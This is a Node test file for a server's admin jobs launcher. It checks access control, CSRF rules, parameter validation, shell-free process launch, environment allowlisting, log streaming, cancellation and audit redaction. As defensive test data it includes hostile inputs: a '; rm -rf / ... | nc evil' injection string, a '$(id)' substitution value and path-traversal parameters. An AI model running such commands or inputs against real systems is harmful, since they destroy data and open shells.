import assert from 'node:assert/strict';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { startPalisade, tempHome, type TestPalisade } from '../support/palisade.js';
import {
  assertApiError,
  eventually,
  FAST_SCRYPT_ENV,
  newSignedInUser,
  WebClient,
  withStore,
  type WebResponse,
} from '../support/web.js';
import { writeJobFixtures } from '../fixtures/jobs.js';

/*
 * The jobs launcher through the real server and real sign-in: admins only, parameters
 * checked, processes started without a shell and with an allowlisted environment, logs
 * read and streamed, cancel, timeout, the queue, /healthz, the audit log and restarts.
 */

interface Run {
  id: string;
  template: string;
  params: Record<string, string | number>;
  status: string;
  progress: number | null;
  exit_code: number | null;
  signal: string | null;
  reason: string | null;
  created_by: string;
  started_at: string | null;
  finished_at: string | null;
  log_bytes: number;
}

interface SseEvent {
  event: string;
  id?: string;
  data: unknown;
}

const BASE = '/api/admin/jobs';
const FINAL = new Set(['succeeded', 'failed', 'cancelled']);
const ENV = {
  ...FAST_SCRYPT_ENV,
  PALISADE_MAX_JOBS: '1',
  PALISADE_JOB_KILL_GRACE: '300ms',
  PALISADE_API_BURST: '100000',
};

function runOf(response: WebResponse): Run {
  return (response.body as { run: Run }).run;
}

async function start(client: WebClient, template: string, params: Record<string, unknown> = {}) {
  const response = await client.post(`${BASE}/runs`, { template, params });
  assert.equal(response.status, 201, response.text);
  return runOf(response);
}

function finished(client: WebClient, id: string): Promise<Run> {
  return eventually(async () => {
    const run = runOf(await client.get(`${BASE}/runs/${id}`));
    return FINAL.has(run.status) ? run : undefined;
  });
}

async function logText(client: WebClient, id: string): Promise<string> {
  const response = await client.get(`${BASE}/runs/${id}/log`);
  assert.equal(response.status, 200);
  return response.text;
}

function waitForLog(client: WebClient, id: string, pattern: RegExp): Promise<string> {
  return eventually(async () => {
    const text = await logText(client, id);
    return pattern.test(text) ? text : undefined;
  });
}

/** Reads an SSE stream's frames as they come, until `until` says stop or the stream ends. */
async function readSse(
  response: Response,
  until: (events: SseEvent[]) => boolean = () => false,
): Promise<{ events: SseEvent[]; ended: boolean }> {
  assert.ok(response.body);
  const reader = response.body.pipeThrough(new TextDecoderStream()).getReader();
  const events: SseEvent[] = [];
  let buffered = '';
  for (;;) {
    const { value, done } = await reader.read();
    if (done) return { events, ended: true };
    buffered += value;
    let end: number;
    while ((end = buffered.indexOf('\n\n')) !== -1) {
      const block = buffered.slice(0, end);
      buffered = buffered.slice(end + 2);
      const frame: Partial<SseEvent> & { dataLines: string[] } = { dataLines: [] };
      for (const line of block.split('\n')) {
        if (line.startsWith('event: ')) frame.event = line.slice(7);
        else if (line.startsWith('id: ')) frame.id = line.slice(4);
        else if (line.startsWith('data: ')) frame.dataLines.push(line.slice(6));
      }
      if (frame.event === undefined) continue;
      events.push({
        event: frame.event,
        ...(frame.id !== undefined && { id: frame.id }),
        data: JSON.parse(frame.dataLines.join('\n')) as unknown,
      });
      if (until(events)) {
        await reader.cancel();
        return { events, ended: false };
      }
    }
  }
}

function openEvents(client: WebClient, id: string, headers: Record<string, string> = {}) {
  return fetch(`${client.base}${BASE}/runs/${id}/events`, {
    headers: {
      'x-requested-with': 'palisade',
      cookie: client.cookieHeader,
      accept: 'text/event-stream',
      ...headers,
    },
  });
}

function logTextOf(events: SseEvent[]): string {
  return events
    .filter((e) => e.event === 'log')
    .map((e) => (e.data as { text: string }).text)
    .join('');
}

async function runRows(palisade: TestPalisade): Promise<unknown[]> {
  return withStore(palisade, (store) =>
    store.sqlite.prepare('select * from job_run order by seq').all(),
  );
}

describe('jobs launcher', () => {
  let palisade: TestPalisade;
  let root: WebClient;
  let bob: WebClient;
  let home: string;

  before(async () => {
    process.env.JOBS_TEST_ALLOWED = 'from-the-server';
    process.env.JOBS_TEST_SECRET = 'sk-not-for-jobs-qx9';
    home = writeJobFixtures(tempHome());
    copyFileSync(
      join(import.meta.dirname, '..', '..', 'examples', 'jobs', 'finetune-demo.mjs'),
      join(home, 'jobs', 'scripts', 'finetune-demo.mjs'),
    );
    palisade = await startPalisade({ home, env: ENV });
    root = await newSignedInUser(palisade, 'root', 'admin');
    bob = await newSignedInUser(palisade, 'bob');
  });
  after(async () => {
    await palisade.close();
    delete process.env.JOBS_TEST_ALLOWED;
    delete process.env.JOBS_TEST_SECRET;
  });

  const someId = 'run_0123456789abcdef0123';
  const routes: Array<[string, string, unknown?]> = [
    ['GET', `${BASE}/templates`],
    ['GET', `${BASE}/runs`],
    ['POST', `${BASE}/runs`, { template: 'argv', params: { text: 'x' } }],
    ['GET', `${BASE}/runs/${someId}`],
    ['POST', `${BASE}/runs/${someId}/cancel`, {}],
    ['GET', `${BASE}/runs/${someId}/log`],
    ['GET', `${BASE}/runs/${someId}/events`],
  ];

  test('signed out: 401; a non-admin: 403 admin_required; CSRF rules apply; nothing stored', async () => {
    const anonymous = new WebClient(palisade.url);
    for (const [method, path, body] of routes) {
      assertApiError(await anonymous.request(method, path, body), 401);
      assertApiError(await bob.request(method, path, body), 403, 'admin_required');
      assertApiError(
        await root.request(method, path, body, { 'x-requested-with': undefined }),
        403,
        'csrf_header_missing',
      );
      if (method === 'POST') {
        assertApiError(
          await root.request(method, path, body, { origin: undefined }),
          403,
          'origin_missing',
        );
        assertApiError(
          await root.request(method, path, body, { origin: 'http://evil.example' }),
          403,
          'origin_mismatch',
        );
      }
    }
    assert.deepEqual(await runRows(palisade), [], 'no run was stored');
  });

  test('templates: the built-ins and the jobs.json ones, with their parameters', async () => {
    const response = await root.get(`${BASE}/templates`);
    assert.equal(response.status, 200, response.text);
    const body = response.body as {
      templates: Array<{ name: string; builtin: boolean; params: Array<{ name: string }> }>;
      error: string | null;
    };
    assert.equal(body.error, null);
    const names = body.templates.map((t) => t.name);
    assert.deepEqual(names.slice(0, 2), ['model-download', 'script']);
    assert.ok(names.includes('argv') && names.includes('stubborn'));
    const download = body.templates[0];
    assert.equal(download?.builtin, true);
    assert.deepEqual(
      download?.params.map((p) => p.name),
      ['url', 'sha256'],
    );
    assert.ok(!response.text.includes(process.execPath), 'commands are not shown');
  });

  test('refused requests: 400 with request_id and details, 404s, and nothing stored', async () => {
    const bad = await root.post(`${BASE}/runs`, {
      template: 'argv',
      params: { text: 'ok', tag: '$(id)', nope: 1 },
    });
    assertApiError(bad, 400, 'invalid_params');
    const error = (bad.body as { error: { request_id: string; details: unknown[] } }).error;
    assert.equal(error.request_id, bad.headers.get('x-request-id'));
    assert.deepEqual(error.details, [
      { param: 'nope', message: 'is not a parameter of "argv" (it takes: text, tag)' },
      { param: 'tag', message: 'does not match the pattern [a-z0-9-]{1,32}' },
    ]);
    assertApiError(await root.post(`${BASE}/runs`, { template: 'argv' }), 400, 'invalid_params');
    for (const body of [
      '{"template": "argv", "params":',
      { template: 'argv', params: { text: 'x' }, shell: true },
      { template: 'argv', params: ['x'] },
      { template: 42 },
      { template: '../argv' },
      [],
    ]) {
      assertApiError(await root.post(`${BASE}/runs`, body), 400);
    }
    assertApiError(
      await root.post(`${BASE}/runs`, { template: 'no-such', params: {} }),
      404,
      'template_not_found',
    );
    for (const id of [someId, 'not-a-run', 'run_' + 'a'.repeat(64), '..%2F..%2Fetc']) {
      assertApiError(await root.get(`${BASE}/runs/${id}`), 404, 'run_not_found');
      assertApiError(await root.post(`${BASE}/runs/${id}/cancel`), 404, 'run_not_found');
      assertApiError(await root.get(`${BASE}/runs/${id}/log`), 404, 'run_not_found');
      assertApiError(await root.get(`${BASE}/runs/${id}/events`), 404, 'run_not_found');
    }
    assertApiError(await root.get(`${BASE}/runs?limit=0`), 400, 'invalid_request');
    assertApiError(await root.get(`${BASE}/runs?limit=1e3`), 400, 'invalid_request');
    assertApiError(await root.get(`${BASE}/runs?before=${someId}`), 400, 'invalid_request');
    assert.deepEqual(await runRows(palisade), [], 'no run was stored');
  });

  test('hostile text the pattern allows reaches the process as one argv element', async () => {
    const text = '; rm -rf / && $(id) `id` | nc evil 1\nline2';
    const run = await start(root, 'argv', { text, tag: 'x-1' });
    assert.equal(run.created_by, 'root');
    const done = await finished(root, run.id);
    assert.equal(done.status, 'succeeded', JSON.stringify(done));
    const log = await logText(root, run.id);
    assert.deepEqual(JSON.parse(log.split('\n')[0] as string), [text, '--tag', 'x-1']);
    // The log endpoint pages by byte offset and says the size.
    const tail = await root.get(`${BASE}/runs/${run.id}/log?offset=2`);
    assert.equal(tail.text, log.slice(2));
    assert.equal(tail.headers.get('x-log-size'), String(Buffer.byteLength(log)));
    assert.match(tail.headers.get('content-type') ?? '', /^text\/plain/);
    assert.equal((await root.get(`${BASE}/runs/${run.id}/log?offset=999999`)).text, '');
    assertApiError(await root.get(`${BASE}/runs/${run.id}/log?offset=-1`), 400);
  });

  test('the job gets only allowlisted variables of the server’s environment', async () => {
    const run = await start(root, 'env');
    await finished(root, run.id);
    const env = JSON.parse((await logText(root, run.id)).split('\n')[0] as string) as Record<
      string,
      string
    >;
    assert.equal(env.JOBS_TEST_ALLOWED, 'from-the-server');
    assert.equal(env.JOBS_TEST_SECRET, undefined);
    assert.equal(env.PALISADE_JOB_ID, run.id);
    assert.equal(env.PALISADE_HOME, undefined);
    assert.ok(process.env.PATH === undefined || env.PATH === process.env.PATH);
  });

  test('live log over SSE, resumed with Last-Event-ID, ended with `end`', async () => {
    const flag = join(home, 'sse-go');
    const run = await start(root, 'wait-file', { file: flag });
    const response = await openEvents(root, run.id);
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/event-stream/);
    const first = await readSse(response, (events) => logTextOf(events).includes('waiting for'));
    assert.equal(first.events[0]?.event, 'run');
    const lastLog = first.events.filter((e) => e.event === 'log').at(-1) as SseEvent;
    const data = lastLog.data as { offset: number; text: string };
    assert.equal(Number(lastLog.id), data.offset + Buffer.byteLength(data.text));
    // The watcher of the closed stream is gone; a new one resumes after what was seen.
    const resumed = await openEvents(root, run.id, { 'last-event-id': String(lastLog.id) });
    const reading = readSse(resumed);
    await waitForLog(root, run.id, /waiting for/);
    writeFileSync(flag, '');
    const rest = await reading;
    assert.equal(rest.ended, true, 'the stream closes after `end`');
    assert.equal(rest.events.at(-1)?.event, 'end');
    assert.equal((rest.events.at(-1)?.data as Run).status, 'succeeded');
    const text = logTextOf(rest.events);
    assert.ok(!text.includes('waiting for'), 'nothing before the Last-Event-ID again');
    assert.match(text, /saw it/);
    assert.match(text, /exited with code 0/);
    // A finished run's stream replays the log and ends at once.
    const replay = await readSse(await openEvents(root, run.id));
    assert.equal(replay.ended, true);
    assert.match(logTextOf(replay.events), /waiting for[\s\S]*saw it/);
  });

  test('cancel: SIGTERM, SIGKILL after the grace; a finished run gets 409', async () => {
    const run = await start(root, 'stubborn');
    await waitForLog(root, run.id, /started/);
    const health = (await (await fetch(`${palisade.url}/healthz`)).json()) as {
      active_jobs: number;
    };
    assert.equal(health.active_jobs, 1);
    const cancelled = await root.post(`${BASE}/runs/${run.id}/cancel`);
    assert.equal(cancelled.status, 200, cancelled.text);
    const done = await finished(root, run.id);
    assert.equal(done.status, 'cancelled');
    assert.equal(done.reason, 'cancelled by root');
    assert.equal(done.signal, 'SIGKILL');
    assert.match(await logText(root, run.id), /ignoring SIGTERM[\s\S]*sending SIGKILL/);
    assertApiError(await root.post(`${BASE}/runs/${run.id}/cancel`), 409, 'run_finished');
    const after = (await (await fetch(`${palisade.url}/healthz`)).json()) as {
      active_jobs: number;
    };
    assert.equal(after.active_jobs, 0);
  });

  test('PALISADE_MAX_JOBS=1: the second run stays queued until the first ends; queued cancel', async () => {
    const flag = join(home, 'queue-go');
    const first = await start(root, 'wait-file', { file: flag });
    const second = await start(root, 'argv', { text: 'second' });
    const third = await start(root, 'argv', { text: 'third' });
    await waitForLog(root, first.id, /waiting for/);
    assert.equal(runOf(await root.get(`${BASE}/runs/${second.id}`)).status, 'queued');
    const cancelled = runOf(await root.post(`${BASE}/runs/${third.id}/cancel`));
    assert.equal(cancelled.status, 'cancelled');
    assert.equal(cancelled.started_at, null);
    writeFileSync(flag, '');
    assert.equal((await finished(root, second.id)).status, 'succeeded');
    assert.equal(runOf(await root.get(`${BASE}/runs/${third.id}`)).status, 'cancelled');
    const list = (await root.get(`${BASE}/runs?limit=3`)).body as { runs: Run[] };
    assert.deepEqual(
      list.runs.map((r) => r.id),
      [third.id, second.id, first.id],
      'newest first',
    );
    const older = (await root.get(`${BASE}/runs?limit=1&before=${second.id}`)).body as {
      runs: Run[];
    };
    assert.deepEqual(
      older.runs.map((r) => r.id),
      [first.id],
    );
  });

  test('a timeout ends the run failed with "timed out after 1s"', async () => {
    const run = await start(root, 'sleep');
    const done = await finished(root, run.id);
    assert.equal(done.status, 'failed');
    assert.equal(done.reason, 'timed out after 1s');
  });

  test('the built-in script runner runs the example fine-tune, with progress', async () => {
    const run = await start(root, 'script', { script: 'finetune-demo.mjs', epochs: '1' });
    // Runs show a path as given, relative to its folder; the process and the audit log get it
    // resolved (the audit test below checks the absolute path).
    assert.deepEqual(run.params, { script: 'finetune-demo.mjs', epochs: 1 });
    const done = await finished(root, run.id);
    assert.equal(done.status, 'succeeded', await logText(root, run.id));
    assert.equal(done.progress, 100);
    assert.match(await logText(root, run.id), /loss \d\.\d+[\s\S]*progress: 100%/);
    assertApiError(
      await root.post(`${BASE}/runs`, {
        template: 'script',
        params: { script: '../../palisade.db' },
      }),
      400,
      'invalid_params',
    );
  });

  test('start, cancel and finish are audited with the template and validated values', async () => {
    const audit = (await root.get('/api/admin/audit?action=job.&limit=200')).body as {
      entries: Array<{
        action: string;
        actor: string;
        target?: string;
        request_id?: string;
        details?: Record<string, unknown>;
      }>;
    };
    const started = audit.entries.filter((e) => e.action === 'job.started');
    assert.ok(started.length >= 8, `${started.length}`);
    assert.ok(started.every((e) => e.actor === 'user:root' && e.request_id));
    const cancels = audit.entries.filter((e) => e.action === 'job.cancelled');
    assert.equal(cancels.length, 2);
    assert.ok(cancels.every((e) => e.actor === 'user:root'));
    const finishes = audit.entries.filter((e) => e.action === 'job.finished');
    assert.ok(finishes.some((e) => e.details?.reason === 'timed out after 1s'));
    assert.ok(finishes.every((e) => e.actor === 'system' && typeof e.details?.status === 'string'));
    const file = readFileSync(join(home, 'audit.jsonl'), 'utf8');
    assert.ok(!file.includes('sk-not-for-jobs-qx9'), 'no environment value in the audit log');
    assert.ok(!palisade.logs.join('').includes('sk-not-for-jobs-qx9'), 'nor in the server log');
    const script = started.find((e) => e.details?.template === 'script');
    assert.deepEqual(script?.details?.params, [
      `script=${join(home, 'jobs', 'scripts', 'finetune-demo.mjs')}`,
      'epochs=1',
    ]);
    const finish = finishes.find((e) => e.details?.template === 'script');
    assert.deepEqual(finish?.details?.params, script?.details?.params);
  });

  test('a broken jobs.json is reported; the built-ins still run', async () => {
    const file = join(home, 'jobs.json');
    const good = readFileSync(file, 'utf8');
    writeFileSync(
      file,
      JSON.stringify({
        templates: [
          {
            name: 'x',
            command: process.execPath,
            args: ['--n={n}'],
            params: { n: { type: 'integer' } },
          },
        ],
      }),
      { mode: 0o600 },
    );
    try {
      const body = (await root.get(`${BASE}/templates`)).body as {
        templates: Array<{ name: string }>;
        error: string | null;
      };
      assert.match(body.error ?? '', /placeholder inside other text/);
      assert.deepEqual(
        body.templates.map((t) => t.name),
        ['model-download', 'script'],
      );
      const run = await start(root, 'script', { script: 'finetune-demo.mjs', epochs: 1 });
      assert.equal((await finished(root, run.id)).status, 'succeeded');
      assertApiError(
        await root.post(`${BASE}/runs`, { template: 'argv', params: { text: 'x' } }),
        404,
        'template_not_found',
      );
    } finally {
      writeFileSync(file, good, { mode: 0o600 });
    }
  });

  test(
    'event streams: at most 16 open per user; the 17th gets 429 with request_id',
    { timeout: 60_000 },
    async () => {
      const run = await start(root, 'sleep-long');
      const open: Response[] = [];
      try {
        for (let i = 0; i < 16; i++) {
          const response = await openEvents(root, run.id);
          assert.equal(response.status, 200, `stream ${i + 1}`);
          open.push(response);
        }
        const refused = await root.get(`${BASE}/runs/${run.id}/events`);
        assertApiError(refused, 429, 'too_many_streams');
        assert.match(refused.text, /already has 16 job event streams open: close one/);
        // Another admin has streams of their own.
        const other = await newSignedInUser(palisade, 'ops', 'admin');
        const theirs = await openEvents(other, run.id);
        assert.equal(theirs.status, 200);
        await theirs.body?.cancel();
        // A closed stream frees its place.
        await open.shift()?.body?.cancel();
        const again = await eventually(async () => {
          const response = await openEvents(root, run.id);
          if (response.status === 200) return response;
          await response.body?.cancel();
          return undefined;
        });
        open.push(again);
      } finally {
        for (const response of open) await response.body?.cancel();
        await root.post(`${BASE}/runs/${run.id}/cancel`);
        await finished(root, run.id);
      }
    },
  );

  test('a signed download URL: the API and the audit log show it without its query', async () => {
    const url = 'http://dl:pw@127.0.0.1:9/m.gguf?X-Amz-Signature=e2e-s3cr3t-sig&X-Amz-Expires=60';
    const run = await start(root, 'model-download', { url });
    assert.deepEqual(run.params, { url: 'http://127.0.0.1:9/m.gguf?…' });
    const listed = (await root.get(`${BASE}/runs?limit=1`)).body as { runs: Run[] };
    assert.deepEqual(listed.runs[0]?.params, run.params);
    const done = await finished(root, run.id);
    assert.equal(done.status, 'failed', 'nothing listens on port 9');
    assert.deepEqual(done.params, run.params);
    const file = readFileSync(join(home, 'audit.jsonl'), 'utf8');
    assert.ok(file.includes('url=http://127.0.0.1:9/m.gguf?…'));
    assert.ok(!/e2e-s3cr3t-sig|X-Amz-Expires|dl:pw/.test(file), 'no grant in the audit log');
  });

  test('a run left running by a stopped server is marked failed at the next start', async () => {
    const run = await start(root, 'sleep-long');
    await waitForLog(root, run.id, /sleeping/);
    await palisade.close();
    // Closing stops the job; a crash would not have: the row is left running by hand.
    await withStore(palisade, (store) => {
      const row = store.sqlite
        .prepare('select status, reason from job_run where id = ?')
        .get(run.id);
      assert.deepEqual(row, { status: 'failed', reason: 'server stopped while the job ran' });
      store.sqlite
        .prepare(
          "update job_run set status = 'running', reason = null, finished_at = null where id = ?",
        )
        .run(run.id);
    });
    palisade = await startPalisade({ home, env: ENV });
    const client = new WebClient(palisade.url);
    const signedIn = await client.post('/api/auth/login', {
      username: 'root',
      password: 'correct horse battery staple',
    });
    assert.equal(signedIn.status, 200);
    const after = runOf(await client.get(`${BASE}/runs/${run.id}`));
    assert.equal(after.status, 'failed');
    assert.equal(after.reason, 'server restarted while the job ran');
    const health = (await (await fetch(`${palisade.url}/healthz`)).json()) as {
      active_jobs: number;
    };
    assert.equal(health.active_jobs, 0);
  });
});
